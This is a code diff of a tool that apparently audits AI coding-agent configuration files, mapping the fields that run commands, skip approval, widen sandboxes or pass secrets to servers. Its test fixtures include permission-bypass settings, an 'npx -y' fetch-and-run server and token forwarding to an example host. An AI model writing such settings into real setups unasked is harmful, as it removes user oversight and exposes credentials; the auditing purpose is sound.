 			field: "experimental.monitors, monitors",
 			kind: "run",
-			grants: "as in `monitors/monitors.json`, or the path of such a file"
+			description: "as in `monitors/monitors.json`, or the path of such a file"
 		},
 		{
 			field: "dependencies[]",
 			kind: "install",
-			grants: "installs and enables another plugin"
+			description: "installs and enables another plugin"
 		},
 		{
 			field: "userConfig.<name>.sensitive",
 			kind: "secret",
-			grants: "asks the user for a secret and gives it to hooks and servers"
+			description: "asks the user for a secret and gives it to hooks and servers"
 		},
 		{
 			field: "channels[].server",
 			kind: "mcp",
-			grants: "brings messages of the server to the model"
+			description: "brings messages of the server to the model"
 		},
 		{
 			field: "defaultEnabled",
 			kind: "guard",
-			grants: "false: the plugin starts disabled"
+			description: "false: the plugin starts disabled"
 		}
 	],
 	unitOf(path) {
@@ -14436,15 +14630,15 @@ const claudePlugin = {
 };
 // src/powers/examples/claude-settings.ts
 const path$2 = ".claude/settings.json";
-function example(kind, scope, [granting, without, ...respelled]) {
+function example(kind, scope, [granting, without, ...equivalents]) {
 	const file = (settings) => ({ [path$2]: `${JSON.stringify(settings)}\n` });
-	const spellings = respelled.map((settings) => ({ [path$2]: `${JSON.stringify(settings, null, 2)}\n` }));
+	const spellings = equivalents.map((settings) => ({ [path$2]: `${JSON.stringify(settings, null, 2)}\n` }));
 	return {
 		kind,
 		scope,
 		granting: file(granting),
 		without: file(without),
-		respelled: spellings
+		equivalents: spellings
 	};
 }
 const permissions = (value) => ({ permissions: value });
@@ -15275,116 +15469,117 @@ const claudeSettings = {
 	id: "claude-settings",
 	title: "`.claude/settings.json`, `.claude/settings.local.json`",
 	client: "Claude Code",
+	extensions: ["json"],
 	fields: [
 		{
 			field: "permissions.allow",
 			kind: "approve",
-			grants: "allows the tools without asking"
+			description: "allows the tools without asking"
 		},
 		{
 			field: "permissions.deny, permissions.ask",
 			kind: "guard",
-			grants: "limits the tools"
+			description: "limits the tools"
 		},
 		{
 			field: "permissions.defaultMode",
 			kind: "approve",
-			grants: "`acceptEdits`, `bypassPermissions`: asks less; `plan`, `dontAsk`: limits"
+			description: "`acceptEdits`, `bypassPermissions`: asks less; `plan`, `dontAsk`: limits"
 		},
 		{
 			field: "permissions.additionalDirectories",
 			kind: "write",
-			grants: "reads and writes the folders"
+			description: "reads and writes the folders"
 		},
 		{
 			field: "permissions.disableBypassPermissionsMode, permissions.disableAutoMode",
 			kind: "guard",
-			grants: "takes the mode away"
+			description: "takes the mode away"
 		},
 		{
 			field: "hooks",
 			kind: "run",
-			grants: "as in `hooks/hooks.json`"
+			description: "as in `hooks/hooks.json`"
 		},
 		{
 			field: "disableAllHooks, disableSkillShellExecution",
 			kind: "guard",
-			grants: "true: limits"
+			description: "true: limits"
 		},
 		{
 			field: "env",
 			kind: "settings",
-			grants: "sets variables for the client and its commands"
+			description: "sets variables for the client and its commands"
 		},
 		{
 			field: "apiKeyHelper, awsAuthRefresh, awsCredentialExport, gcpAuthRefresh, otelHeadersHelper",
 			kind: "run",
-			grants: "runs the command without asking"
+			description: "runs the command without asking"
 		},
 		{
 			field: "statusLine.command, subagentStatusLine.command, fileSuggestion.command",
 			kind: "run",
-			grants: "runs the command again and again"
+			description: "runs the command again and again"
 		},
 		{
 			field: "enabledPlugins",
 			kind: "settings",
-			grants: "enables the plugin"
+			description: "enables the plugin"
 		},
 		{
 			field: "extraKnownMarketplaces",
 			kind: "install",
-			grants: "offers plugins of the source"
+			description: "offers plugins of the source"
 		},
 		{
 			field: "enableAllProjectMcpServers, enabledMcpjsonServers",
 			kind: "approve",
-			grants: "starts servers of `.mcp.json` without asking"
+			description: "starts servers of `.mcp.json` without asking"
 		},
 		{
 			field: "disabledMcpjsonServers, skillOverrides",
 			kind: "guard",
-			grants: "limits them"
+			description: "limits them"
 		},
 		{
 			field: "sandbox.enabled",
 			kind: "guard",
-			grants: "limits what commands reach"
+			description: "limits what commands reach"
 		},
 		{
 			field: "sandbox.excludedCommands",
 			kind: "run",
-			grants: "runs outside the sandbox"
+			description: "runs outside the sandbox"
 		},
 		{
 			field: "sandbox.filesystem.allowWrite",
 			kind: "write",
-			grants: "writes the folders"
+			description: "writes the folders"
 		},
 		{
 			field: "sandbox.filesystem.allowRead",
 			kind: "read",
-			grants: "reads the folders"
+			description: "reads the folders"
 		},
 		{
 			field: "sandbox.network.allowedDomains",
 			kind: "net",
-			grants: "reaches the hosts"
+			description: "reaches the hosts"
 		},
 		{
 			field: "sandbox.*: denyRead, denyWrite, deniedDomains, allowUnsandboxedCommands",
 			kind: "guard",
-			grants: "limits the sandbox further"
+			description: "limits the sandbox further"
 		},
 		{
 			field: "agent",
 			kind: "delegate",
-			grants: "the agent that works in the conversation"
+			description: "the agent that works in the conversation"
 		},
 		{
 			field: "outputStyle",
 			kind: "settings",
-			grants: "replaces parts of the instructions"
+			description: "replaces parts of the instructions"
 		}
 	],
 	unitOf(path) {
@@ -15442,7 +15637,7 @@ const claudeWorkflows = {
 	fields: [{
 		field: "(the file)",
 		kind: "delegate",
-		grants: "starts agents, as its script says"
+		description: "starts agents, as its script says"
 	}],
 	unitOf: (path, tree) => /\.[cm]?[jt]s$/.test(path) ? unitWith(path, tree) : null,
 	read({ path, unit }) {
@@ -15464,13 +15659,13 @@ const claudeWorkflows = {
 		scope: "workflows/audit.js",
 		granting: plugin$3({ "workflows/audit.js": "export const meta = { name: \"audit\" };\n" }),
 		without: plugin$3({}),
-		respelled: []
+		equivalents: []
 	}, {
 		kind: "delegate",
 		scope: ".claude/workflows/audit.js",
 		granting: { ".claude/workflows/audit.js": "export const meta = { name: \"audit\" };\n" },
 		without: {},
-		respelled: []
+		equivalents: []
 	}]
 };
 function unitWith(path, tree) {
@@ -15488,10 +15683,11 @@ const codexApps = {
 	id: "codex-apps",
 	title: "`.app.json` of a plugin",
 	client: "Codex",
+	extensions: ["json"],
 	fields: [{
 		field: "apps.<name>.id",
 		kind: "mcp",
-		grants: "connects the tools of the hosted connector"
+		description: "connects the tools of the hosted connector"
 	}],
 	unitOf(path) {
 		return nameOf$3(path) === ".app.json" ? {
@@ -15509,7 +15705,7 @@ const codexApps = {
 		scope: "connector_1234",
 		granting: { "p/.app.json": "{\"apps\": {\"mail\": {\"id\": \"connector_1234\"}}}\n" },
 		without: { "p/.app.json": "{\"apps\": {}}\n" },
-		respelled: [{ "p/.app.json": "{\n  \"apps\": {\"mail\": {\"id\": \"connector_1234\"}}\n}\n" }]
+		equivalents: [{ "p/.app.json": "{\n  \"apps\": {\"mail\": {\"id\": \"connector_1234\"}}\n}\n" }]
 	}]
 };
 function readApp({ key, keyAt, value }) {
@@ -15682,56 +15878,57 @@ const codexConfig = {
 	id: "codex-config",
 	title: "`.codex/config.toml`",
 	client: "Codex",
+	extensions: ["toml"],
 	fields: [
 		{
 			field: "approval_policy",
 			kind: "approve",
-			grants: "`on-failure`, `never`: asks less; `untrusted`: limits"
+			description: "`on-failure`, `never`: asks less; `untrusted`: limits"
 		},
 		{
 			field: "sandbox_mode",
 			kind: "approve",
-			grants: "`workspace-write`, `danger-full-access`: commands reach more; `read-only`: limits"
+			description: "`workspace-write`, `danger-full-access`: commands reach more; `read-only`: limits"
 		},
 		{
 			field: "sandbox_workspace_write.writable_roots",
 			kind: "write",
-			grants: "writes the folders"
+			description: "writes the folders"
 		},
 		{
 			field: "sandbox_workspace_write.network_access",
 			kind: "net",
-			grants: "commands reach the network"
+			description: "commands reach the network"
 		},
 		{
 			field: "mcp_servers.<name>",
 			kind: "mcp",
-			grants: "starts the server, with its tools"
+			description: "starts the server, with its tools"
 		},
 		{
 			field: "mcp_servers.<name>.bearer_token_env_var, env_http_headers, env",
 			kind: "secret",
-			grants: "passes on variables of the environment"
+			description: "passes on variables of the environment"
 		},
 		{
 			field: "hooks",
 			kind: "run",
-			grants: "as in `.codex/hooks.json`"
+			description: "as in `.codex/hooks.json`"
 		},
 		{
 			field: "notify",
 			kind: "run",
-			grants: "runs the program at the end of every turn"
+			description: "runs the program at the end of every turn"
 		},
 		{
 			field: "disabled_tools",
 			kind: "guard",
-			grants: "takes tools of a server away"
+			description: "takes tools of a server away"
 		},
 		{
 			field: "features, agents, shell_environment_policy, plugins, marketplaces, apps, tools",
 			kind: "settings",
-			grants: "shown as written"
+			description: "shown as written"
 		}
 	],
 	unitOf(path) {
@@ -15748,70 +15945,70 @@ const codexConfig = {
 			scope: "never",
 			granting: config$1("approval_policy = \"never\"\n"),
 			without: config$1("approval_policy = \"on-request\"\n"),
-			respelled: [config$1("model = 'x'\n'approval_policy' = 'never' # asks nothing\n")]
+			equivalents: [config$1("model = 'x'\n'approval_policy' = 'never' # asks nothing\n")]
 		},
 		{
 			kind: "approve",
 			scope: "danger-full-access",
 			granting: config$1("sandbox_mode = \"danger-full-access\"\n"),
 			without: config$1("sandbox_mode = \"workspace-write\"\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "write",
 			scope: "/srv/data/",
 			granting: config$1("[sandbox_workspace_write]\nwritable_roots = [\"/srv/data\"]\n"),
 			without: config$1("[sandbox_workspace_write]\nwritable_roots = []\n"),
-			respelled: [config$1("sandbox_workspace_write.writable_roots = [\"/srv//data/\"]\n")]
+			equivalents: [config$1("sandbox_workspace_write.writable_roots = [\"/srv//data/\"]\n")]
 		},
 		{
 			kind: "net",
 			scope: "every host",
 			granting: config$1("[sandbox_workspace_write]\nnetwork_access = true\n"),
 			without: config$1("[sandbox_workspace_write]\nnetwork_access = false\n"),
-			respelled: [config$1("sandbox_workspace_write = { network_access = true }\n")]
+			equivalents: [config$1("sandbox_workspace_write = { network_access = true }\n")]
 		},
 		{
 			kind: "mcp",
 			scope: "npx -y docs-mcp@latest",
 			granting: config$1("[mcp_servers.docs]\ncommand = \"npx\"\nargs = [\"-y\", \"docs-mcp@latest\"]\n"),
 			without: config$1("[mcp_servers.docs]\nenabled = false\ncommand = \"npx\"\nargs = [\"-y\", \"docs-mcp@latest\"]\n"),
-			respelled: [config$1("mcp_servers.docs = { args = [\"-y\", \"docs-mcp@latest\"], command = \"npx\", startup_timeout_sec = 9 }\n")]
+			equivalents: [config$1("mcp_servers.docs = { args = [\"-y\", \"docs-mcp@latest\"], command = \"npx\", startup_timeout_sec = 9 }\n")]
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_TOKEN} to https://docs.example/mcp",
 			granting: config$1(`${server$1}bearer_token_env_var = "DOCS_TOKEN"\n`),
 			without: config$1(server$1),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "run",
 			scope: "start.sh",
 			granting: config$1("[[hooks.SessionStart]]\n[[hooks.SessionStart.hooks]]\ntype = \"command\"\ncommand = \"start.sh\"\n"),
 			without: config$1("[hooks]\n"),
-			respelled: [config$1("hooks.SessionStart = [{ hooks = [{ command = \"start.sh\", type = \"command\" }] }]\n")]
+			equivalents: [config$1("hooks.SessionStart = [{ hooks = [{ command = \"start.sh\", type = \"command\" }] }]\n")]
 		},
 		{
 			kind: "run",
 			scope: "python3 notify.py",
 			granting: config$1("notify = [\"python3\", \"notify.py\"]\n"),
 			without: config$1("model = \"x\"\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "guard",
 			scope: "not docs / drop",
 			granting: config$1(`${server$1}disabled_tools = ["drop"]\n`),
 			without: config$1(server$1),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "settings",
 			scope: "features",
 			granting: config$1("[features]\nweb_search_request = true\n"),
 			without: config$1("model = \"x\"\n"),
-			respelled: [config$1("features = { web_search_request = true }\n")]
+			equivalents: [config$1("features = { web_search_request = true }\n")]
 		}
 	]
 };
@@ -15906,14 +16103,15 @@ const codexHooks = {
 	id: "codex-hooks",
 	title: "`.codex/hooks.json`",
 	client: "Codex",
+	extensions: ["json"],
 	fields: [{
 		field: "hooks.<event>[].hooks[].command",
 		kind: "run",
-		grants: "runs the command at the event, once the user trusts it"
+		description: "runs the command at the event, once the user trusts it"
 	}, {
 		field: "hooks.PreToolUse[].hooks[]",
 		kind: "guard",
-		grants: "may refuse the tool call"
+		description: "may refuse the tool call"
 	}],
 	unitOf(path) {
 		const folder = folderOf(path);
@@ -15932,13 +16130,13 @@ const codexHooks = {
 		scope: "notify.sh",
 		granting: { ".codex/hooks.json": hook("notify.sh") },
 		without: { ".codex/hooks.json": "{\"hooks\": {}}\n" },
-		respelled: [{ ".codex/hooks.json": "{\"hooks\": {\"Stop\": [{\"matcher\": \"\", \"hooks\": [{\"command\": \"notify.sh\", \"timeout\": 5, \"type\": \"command\"}]}]}}\n" }]
+		equivalents: [{ ".codex/hooks.json": "{\"hooks\": {\"Stop\": [{\"matcher\": \"\", \"hooks\": [{\"command\": \"notify.sh\", \"timeout\": 5, \"type\": \"command\"}]}]}}\n" }]
 	}, {
 		kind: "guard",
 		scope: "PreToolUse",
 		granting: { ".codex/hooks.json": hook("deny.sh").replace("Stop", "PreToolUse") },
 		without: { ".codex/hooks.json": "{\"hooks\": {}}\n" },
-		respelled: []
+		equivalents: []
 	}]
 };
 // src/powers/clients/inline-parts.ts
@@ -15980,21 +16178,22 @@ function pluginManifest(client) {
 		fields: [{
 			field: "hooks",
 			kind: "run",
-			grants: `as in \`${hookFile}\`, or the path of such a file`
+			description: `as in \`${hookFile}\`, or the path of such a file`
 		}, {
 			field: "mcpServers",
 			kind: "mcp",
-			grants: "as in `.mcp.json`, or the path of such a file"
+			description: "as in `.mcp.json`, or the path of such a file"
 		}],
+		extensions: ["json"],
 		unitOf: (path) => pluginOf(path, client),
 		read: (file) => readManifest(file, client)
 	};
 }
-function pluginOf(path, { folders, mayBeBare = false }) {
+function pluginOf(path, { folders, mayBeAtRoot = false }) {
 	if (nameOf$3(path) !== "plugin.json") return null;
 	const parent = folderOf(path);
 	const folder = folders.find((candidate) => parent === candidate || parent.endsWith(`/${candidate}`));
-	if (folder === void 0) return mayBeBare && isBare$1(path) ? {
+	if (folder === void 0) return mayBeAtRoot && isOutsideClientFolder(path) ? {
 		kind: "plugin",
 		root: parent
 	} : null;
@@ -16003,23 +16202,23 @@ function pluginOf(path, { folders, mayBeBare = false }) {
 		root: parent.slice(0, -folder.length).replace(/\/$/, "")
 	};
 }
-function isBare$1(path) {
+function isOutsideClientFolder(path) {
 	return !/(?:^|\/)\.[^/]+\/(?:plugin\/)?plugin\.json$/.test(path);
 }
 const pluginKey$1 = /"(?:hooks|mcpServers|lspServers|skills|agents|commands)"\s*:/;
 function readManifest({ path, text: written, unit }, client) {
-	if (client.mayBeBare && isBare$1(path) && !pluginKey$1.test(written)) return nothing$1;
+	if (client.mayBeAtRoot && isOutsideClientFolder(path) && !pluginKey$1.test(written)) return nothing$1;
 	const { root, faults } = readJson(path, written, { consequence: `${client.client} does not load the plugin` });
 	if (root?.kind !== "table") return combine$1({ faults });
 	const hooks = {
 		unit,
-		carrier: client.hooks,
+		carrier: client.hooksCarrier,
 		wrapper: "hooks",
 		read: (value) => client.readHooks(value, unit)
 	};
 	const servers = {
 		unit,
-		carrier: client.servers,
+		carrier: client.serversCarrier,
 		wrapper: "mcpServers",
 		read: (value) => readClientServers(value, { unit })
 	};
@@ -16042,8 +16241,8 @@ const codexPlugin = pluginManifest({
 		"mcpServers",
 		"apps"
 	]),
-	hooks: "claude-hooks",
-	servers: "mcp-json",
+	hooksCarrier: "claude-hooks",
+	serversCarrier: "mcp-json",
 	readHooks: (value, unit) => readHooks(value, { unit }),
 	readMore: (root, unit) => readApps(get(root, "apps"), unit.root),
 	examples: [{
@@ -16051,7 +16250,7 @@ const codexPlugin = pluginManifest({
 		scope: "start.sh",
 		granting: { "p/.codex-plugin/plugin.json": "{\"name\": \"p\", \"hooks\": {\"SessionStart\": [{\"hooks\": [{\"type\": \"command\", \"command\": \"start.sh\"}]}]}}\n" },
 		without: { "p/.codex-plugin/plugin.json": "{\"name\": \"p\"}\n" },
-		respelled: [{ "p/.codex-plugin/plugin.json": "{\"hooks\": [{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"command\": \"start.sh\", \"type\": \"command\"}]}]}}], \"name\": \"p\"}\n" }]
+		equivalents: [{ "p/.codex-plugin/plugin.json": "{\"hooks\": [{\"hooks\": {\"SessionStart\": [{\"hooks\": [{\"command\": \"start.sh\", \"type\": \"command\"}]}]}}], \"name\": \"p\"}\n" }]
 	}, {
 		kind: "mcp",
 		scope: "https://docs.example/mcp",
@@ -16060,7 +16259,7 @@ const codexPlugin = pluginManifest({
 			"p/servers.json": "{\"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n"
 		},
 		without: { "p/.codex-plugin/plugin.json": "{\"name\": \"p\"}\n" },
-		respelled: [{ "p/.codex-plugin/plugin.json": "{\"name\": \"p\", \"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" }]
+		equivalents: [{ "p/.codex-plugin/plugin.json": "{\"name\": \"p\", \"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" }]
 	}]
 });
 function readApps(value, root) {
@@ -16085,15 +16284,16 @@ const codexSkill = {
 	id: "codex-skill",
 	title: "`agents/openai.yaml` of a skill",
 	client: "Codex",
+	extensions: ["md", "yaml"],
 	isCheckedElsewhere: true,
 	fields: [{
 		field: "policy.allow_implicit_invocation",
 		kind: "auto",
-		grants: "absent, true or without the file: the model may start the skill by itself"
+		description: "absent, true or without the file: the model may start the skill by itself"
 	}, {
 		field: "dependencies.tools[]",
 		kind: "mcp",
-		grants: "offers to add the MCP server to the configuration of the user"
+		description: "offers to add the MCP server to the configuration of the user"
 	}],
 	unitOf(path, tree) {
 		const name = nameOf$3(path);
@@ -16136,7 +16336,7 @@ const codexSkill = {
 			"s/SKILL.md": "---\nname: s\n---\nText\n",
 			"s/agents/openai.yaml": "policy:\n  allow_implicit_invocation: false\n"
 		},
-		respelled: [{ "s/SKILL.md": "---\nname: s\n---\nText\n" }, {
+		equivalents: [{ "s/SKILL.md": "---\nname: s\n---\nText\n" }, {
 			"s/SKILL.md": "---\nname: s\n---\nText\n",
 			"s/agents/openai.yaml": "interface: {display_name: S}\npolicy: {}\n"
 		}]
@@ -16151,7 +16351,7 @@ const codexSkill = {
 			"s/SKILL.md": "---\nname: s\n---\nText\n",
 			"s/agents/openai.yaml": "dependencies:\n  tools: []\n"
 		},
-		respelled: [{
+		equivalents: [{
 			"s/SKILL.md": "---\nname: s\n---\nText\n",
 			"s/agents/openai.yaml": "dependencies: {tools: [{url: \"https://DOCS.example/mcp\", value: docs, type: mcp}]}\n"
 		}]
@@ -16232,31 +16432,32 @@ const copilotAgent = {
 	id: "copilot-agent",
 	title: "`*.agent.md`, `.github/agents/*.md`",
 	client: "Copilot",
+	extensions: ["md"],
 	fields: [
 		{
 			field: "tools",
 			kind: "delegate",
-			grants: "the tools of the agent; absent or `*`: any tool"
+			description: "the tools of the agent; absent or `*`: any tool"
 		},
 		{
 			field: "mcp-servers",
 			kind: "mcp",
-			grants: "starts the servers, with their tools"
+			description: "starts the servers, with their tools"
 		},
 		{
 			field: "mcp-servers.<name>.env",
 			kind: "secret",
-			grants: "gives secrets of the repository to the server"
+			description: "gives secrets of the repository to the server"
 		},
 		{
 			field: "disable-model-invocation, user-invocable, infer",
 			kind: "auto",
-			grants: "absent: the model and the user may start the agent"
+			description: "absent: the model and the user may start the agent"
 		},
 		{
 			field: "agents, handoffs",
 			kind: "delegate",
-			grants: "the agents that it may start"
+			description: "the agents that it may start"
 		}
 	],
 	unitOf(path) {
@@ -16288,35 +16489,35 @@ const copilotAgent = {
 			scope: "shell",
 			granting: agent("tools: [read, shell]\n"),
 			without: agent("tools: [read]\n"),
-			respelled: [agent("tools: shell, read\n"), agent("tools:\n  - read\n  - \"shell\"\n")]
+			equivalents: [agent("tools: shell, read\n"), agent("tools:\n  - read\n  - \"shell\"\n")]
 		},
 		{
 			kind: "delegate",
 			scope: "*",
 			granting: agent(""),
 			without: agent("tools: [read]\n"),
-			respelled: [agent("tools: ['*']\n")]
+			equivalents: [agent("tools: ['*']\n")]
 		},
 		{
 			kind: "mcp",
 			scope: "npx -y docs-mcp@latest",
 			granting: agent("tools: []\nmcp-servers:\n  docs:\n    type: local\n    command: npx\n    args: [-y, docs-mcp@latest]\n    tools: [\"*\"]\n"),
 			without: agent("tools: []\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_KEY} to the server",
 			granting: agent("tools: []\nmcp-servers: {docs: {command: docs, env: {KEY: \"${{ secrets.DOCS_KEY }}\"}}}\n"),
 			without: agent("tools: []\nmcp-servers: {docs: {command: docs}}\n"),
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "auto",
 			scope: "model",
 			granting: agent("tools: []\n"),
 			without: agent("tools: []\ndisable-model-invocation: true\n"),
-			respelled: [agent("tools: []\ninfer: true\n")]
+			equivalents: [agent("tools: []\ninfer: true\n")]
 		}
 	]
 };
@@ -16728,11 +16929,11 @@ function hookFields(line, guardEvent) {
 	return [{
 		field: `hooks.<event>[].${line}`,
 		kind: "run",
-		grants: "runs the command at the event"
+		description: "runs the command at the event"
 	}, {
 		field: `hooks.${guardEvent}[]`,
 		kind: "guard",
-		grants: "may refuse what the event announces"
+		description: "may refuse what the event announces"
 	}];
 }
 function hookExamples(path, { plain, guard, key }) {
@@ -16743,13 +16944,13 @@ function hookExamples(path, { plain, guard, key }) {
 		scope: "notify.sh",
 		granting: file(plain, "notify.sh"),
 		without: none,
-		respelled: [{ [path]: `{\n  "hooks": {"${plain}": [{"timeout": 5, "${key}": " notify.sh"}]},\n  "version": 1\n}\n` }]
+		equivalents: [{ [path]: `{\n  "hooks": {"${plain}": [{"timeout": 5, "${key}": " notify.sh"}]},\n  "version": 1\n}\n` }]
 	}, {
 		kind: "guard",
 		scope: guard,
 		granting: file(guard, "deny.sh"),
 		without: none,
-		respelled: []
+		equivalents: []
 	}];
 }
 // src/powers/carriers/copilot-hooks.ts
@@ -16757,10 +16958,11 @@ const copilotHooks = {
 	id: "copilot-hooks",
 	title: "`.github/hooks/*.json`, `hooks.json` of a plugin",
 	client: "Copilot",
+	extensions: ["json"],
 	fields: [...hookFields("bash, powershell, command", "preToolUse"), {
 		field: "hooks.sessionStart[].prompt",
 		kind: "delegate",
-		grants: "gives the text to the model as if the user had typed it"
+		description: "gives the text to the model as if the user had typed it"
 	}],
 	unitOf(path, tree) {
 		const folder = folderOf(path);
@@ -16786,7 +16988,7 @@ const copilotHooks = {
 		{
 			kind: "run",
 			scope: "./start.sh",
-			respelled: [],
+			equivalents: [],
 			granting: {
 				"p/plugin.json": "{\"name\": \"p\"}\n",
 				"p/hooks.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}\n"
@@ -16798,7 +17000,7 @@ const copilotHooks = {
 			scope: "Read the plan.",
 			granting: { ".github/hooks/h.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": [{\"type\": \"prompt\", \"prompt\": \"Read the plan.\"}]}}\n" },
 			without: { ".github/hooks/h.json": "{\"version\": 1, \"hooks\": {\"sessionStart\": []}}\n" },
-			respelled: []
+			equivalents: []
 		}
 	]
 };
@@ -16828,17 +17030,17 @@ function serverFields(key) {
 		{
 			field: `${key}.<name>.command`,
 			kind: "mcp",
-			grants: "starts the program as a server"
+			description: "starts the program as a server"
 		},
 		{
 			field: `${key}.<name>.url`,
 			kind: "mcp",
-			grants: "connects to the server"
+			description: "connects to the server"
 		},
 		{
 			field: `${key}.<name>.env, headers`,
 			kind: "secret",
-			grants: "passes on variables of the environment"
+			description: "passes on variables of the environment"
 		}
 	];
 }
@@ -16851,21 +17053,21 @@ function serverExamples(path, key) {
 			scope: "npx -y docs-mcp@latest",
 			without: { [path]: `{"${key}": {}}\n` },
 			granting: file("{\"command\": \"npx\", \"args\": [\"-y\", \"docs-mcp@latest\"]}"),
-			respelled: [{ [path]: `{\n  // the documents\n  "${key}": {"docs": {"args": ["-y", "docs-mcp@latest"], "command": "npx"}}\n}\n` }]
+			equivalents: [{ [path]: `{\n  // the documents\n  "${key}": {"docs": {"args": ["-y", "docs-mcp@latest"], "command": "npx"}}\n}\n` }]
 		},
 		{
 			kind: "mcp",
 			scope: "https://docs.example/mcp",
 			granting: file(`{${remote}}`),
 			without: { [path]: `{"${key}": {}}\n` },
-			respelled: []
+			equivalents: []
 		},
 		{
 			kind: "secret",
 			scope: "${DOCS_KEY} to https://docs.example/mcp",
 			granting: file(`{${remote}, "headers": {"X-Key": "\${env:DOCS_KEY}"}}`),
 			without: file(`{${remote}}`),
-			respelled: []
+			equivalents: []
 		}
 	];
 }
@@ -16874,6 +17076,7 @@ const copilotMcp = {
 	id: "copilot-mcp",
 	title: "`.github/mcp.json`",
 	client: "Copilot",
+	extensions: ["json"],
 	fields: serverFields("mcpServers"),
 	unitOf(path) {
 		const folder = folderOf(path);
@@ -16893,7 +17096,7 @@ const copilotPlugin = { ...pluginManifest({
 	title: "`.github/plugin/plugin.json`, `.plugin/plugin.json`, `plugin.json`",
 	client: "Copilot",
 	folders: [".github/plugin", ".plugin"],
-	mayBeBare: true,
+	mayBeAtRoot: true,
 	hookFile: ".github/hooks/*.json",
 	known: new Set([...[
 		...commonKeys,
@@ -16907,8 +17110,8 @@ const copilotPlugin = { ...pluginManifest({
 		"strict",
 		"logo"
 	]]),
-	hooks: "copilot-hooks",
-	servers: "copilot-mcp",
+	hooksCarrier: "copilot-hooks",
+	serversCarrier: "copilot-mcp",
 	readHooks: (value, unit) => readClientHooks(value, copilot, unit),
 	examples: [
 		{
@@ -16919,20 +17122,20 @@ const copilotPlugin = { ...pluginManifest({
 				[path$1]: "{\"name\": \"p\", \"hooks\": \"./config/hooks.json\"}\n",
 				"p/config/hooks.json": "{\"version\": 1, \"hooks\": {\"agentStop\": [{\"bash\": \"./format.sh\"}]}}\n"
 			},
-			respelled: [{ [path$1]: "{\"hooks\": {\"agentStop\": [{\"bash\": \"./format.sh\"}]}, \"name\": \"p\"}\n" }]
+			equivalents: [{ [path$1]: "{\"hooks\": {\"agentStop\": [{\"bash\": \"./format.sh\"}]}, \"name\": \"p\"}\n" }]
 		},
 		{
 			kind: "run",
 			scope: "./start.sh",
 			without: { "p/plugin.json": "{\"name\": \"p\"}\n" },
 			granting: { "p/plugin.json": "{\"name\": \"p\", \"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}\n" },
-			respelled: [{ "p/plugin.json": "{\"hooks\": {\"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}, \"name\": \"p\"}\n" }]
+			equivalents: [{ "p/plugin.json": "{\"hooks\": {\"hooks\": {\"sessionStart\": [{\"bash\": \"./start.sh\"}]}}, \"name\": \"p\"}\n" }]
 		},
 		{
 			kind: "mcp",
 			scope: "https://docs.example/mcp",
 			without: none,
-			respelled: [],
+			equivalents: [],
 			granting: { [path$1]: "{\"name\": \"p\", \"mcpServers\": {\"docs\": {\"type\": \"http\", \"url\": \"https://docs.example/mcp\"}}}\n" }
 		}
 	]
@@ -16942,6 +17145,7 @@ const cursorHooks = {
 	id: "cursor-hooks",
 	title: "`.cursor/hooks.json`, `hooks/hooks.json` of a Cursor plugin",
 	client: "Cursor",
+	extensions: ["json"],
 	fields: hookFields("command", "beforeShellExecution"),
 	unitOf(path, tree) {
 		const folder = folderOf(path);
@@ -16969,6 +17173,7 @@ const cursorMcp = {
 	id: "cursor-mcp",
 	title: "`.cursor/mcp.json`",
 	client: "Cursor",
+	extensions: ["json"],
 	fields: serverFields("mcpServers"),
 	unitOf(path) {
 		const folder = folderOf(path);
@@ -17005,8 +17210,8 @@ const cursorPlugin = pluginManifest({
 			"variables"
 		]
 	]),
-	hooks: "cursor-hooks",
-	servers: "cursor-mcp",
+	hooksCarrier: "cursor-hooks",
+	serversCarrier: "cursor-mcp",
 	readHooks: (value, unit) => readClientHooks(value, cursor, unit),
 	examples: [{
 		kind: "run",
@@ -17016,13 +17221,13 @@ const cursorPlugin = pluginManifest({
 			"p/config/hooks.json": "{\"version\": 1, \"hooks\": {\"stop\": [{\"command\": \"./format.sh\"}]}}\n"
 		},
 		without: manifest$3(""),
-		respelled: [manifest$3(", \"hooks\": {\"stop\": [{\"command\": \"./format.sh\"}]}")]
+		equivalents: [manifest$3(", \"hooks\": {\"stop\": [{\"command\": \"./format.sh\"}]}")]
 	}, {
 		kind: "mcp",
 		scope: "https://docs.example/mcp",
 		granting: manifest$3(", \"mcpServers\": {\"docs\": {\"url\": \"https://docs.example/mcp\"}}"),
 		without: manifest$3(""),
-		respelled: [manifest$3(", \"mcpServers\": [{\"docs\": {\"url\": \"https://docs.example/mcp\"}}]")]
+		equivalents: [manifest$3(", \"mcpServers\": [{\"docs\": {\"url\": \"https://docs.example/mcp\"}}]")]
 	}]
 });
 // src/powers/carriers/gemini-command.ts
@@ -17031,10 +17236,11 @@ const geminiCommand = {
 	id: "gemini-command",
 	title: "`commands/**/*.toml` of a Gemini extension, `.gemini/commands/**/*.toml`",
 	client: "Gemini CLI",
+	extensions: ["toml"],
 	fields: [{
 		field: "prompt: !{<command>}",
 		kind: "run",
-		grants: "runs the command each time the prompt is loaded, once the user agrees"
+		description: "runs the command each time the prompt is loaded, once the user agrees"
 	}],
 	unitOf: unitOf$1,
 	read({ path, text: written }) {
@@ -17048,7 +17254,7 @@ const geminiCommand = {
 		scope: "git diff --staged",
 		granting: { ".gemini/commands/c.toml": "prompt = \"Review !{git diff --staged}\"\n" },
 		without: { ".gemini/commands/c.toml": "prompt = \"Review git diff --staged\"\n" },
-		respelled: [{ ".gemini/commands/c.toml": "description = 'Reviews'\nprompt = '''\nReview this:\n!{ git diff --staged }\n'''\n" }]
